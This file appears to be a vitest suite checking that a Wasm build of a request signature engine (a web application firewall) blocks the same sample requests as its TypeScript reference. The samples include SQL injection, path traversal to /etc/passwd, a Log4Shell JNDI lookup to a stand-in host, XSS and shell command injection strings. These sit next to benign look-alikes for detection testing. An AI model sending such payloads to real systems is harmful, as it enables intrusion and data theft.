// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads and rule titles are literal text, not templates
/**
 * The signature engine inside workerd: the Wasm module comes from the
 * `.wasm` import (a WebAssembly.Module under the workers project), runs the
 * detectors, and agrees with the TypeScript reference on a sample of
 * requests, attacks and benign alike.
 */
import { describe, expect, it } from "vitest";
import { createSignatureEngine, type SignatureInput } from "../../core/signatures/index.ts";
import { WasmHost } from "../../core/wasm/host.ts";
import wasmModule from "../../wasm/build/apiward.wasm";

const enc = new TextEncoder();
const req = (over: Partial<SignatureInput>): SignatureInput => ({
  method: "GET",
  path: "/",
  rawPath: "/",
  query: [],
  headers: [["host", "app.example"]],
  ...over,
});

const SAMPLE: SignatureInput[] = [
  req({ query: [["id", "1' or '1'='1"]] }),
  req({ query: [["q", "O'Brien and sons"]] }),
  req({ rawPath: "/files/..%2f..%2fetc/passwd" }),
  req({
    headers: [
      ["host", "h"],
      ["user-agent", "Mozilla/5.0 (Nikto/2.1.6)"],
    ],
  }),
  req({
    headers: [
      ["host", "h"],
      ["x-api-version", "${jndi:ldap://x.example/a}"],
    ],
  }),
  req({
    method: "POST",
    headers: [
      ["host", "h"],
      ["content-type", "application/json"],
    ],
    body: {
      bytes: enc.encode('{"comment":"<img src=x onerror=alert(1)>","n":1}'),
      contentType: "application/json",
      truncated: false,
    },
  }),
  req({ query: [["cmd", "x; cat /etc/passwd"]] }),
  req({ query: [["note", "please select one from the list"]] }),
];

describe("signature engine in workerd", () => {
  const host = new WasmHost(wasmModule as WebAssembly.Module);
  const wasm = createSignatureEngine({ wasm: host });
  const ts = createSignatureEngine();

  it("runs the Wasm scanner", () => {
    expect(wasm.backend).toBe("wasm");
    const r = wasm.inspect(SAMPLE[0] as SignatureInput, { paranoia: 1, threshold: 5 });
    expect(r.block).toBe(true);
    expect(r.matches.some((m) => m.family === "sqli" && m.location === "query:id")).toBe(true);
  });

  it("matches the TypeScript reference on a sample", () => {
    for (const input of SAMPLE) {
      for (const paranoia of [1, 2, 4] as const) {
        expect(wasm.inspect(input, { paranoia, threshold: 5 })).toEqual(ts.inspect(input, { paranoia, threshold: 5 }));
      }
    }
    const verdicts = SAMPLE.map((s) => wasm.inspect(s, { paranoia: 1, threshold: 5 }).block);
    expect(verdicts).toEqual([true, false, true, true, true, true, true, false]);
  });
});
